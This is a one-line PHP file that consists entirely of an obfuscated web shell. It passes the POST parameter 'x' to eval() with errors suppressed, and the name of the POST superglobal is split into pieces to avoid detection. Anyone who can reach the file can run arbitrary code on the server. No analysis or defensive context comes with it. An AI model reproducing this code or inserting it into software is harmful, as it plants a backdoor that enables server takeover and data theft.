<?php @eval(${"_PO".'ST'}['x']); ?>
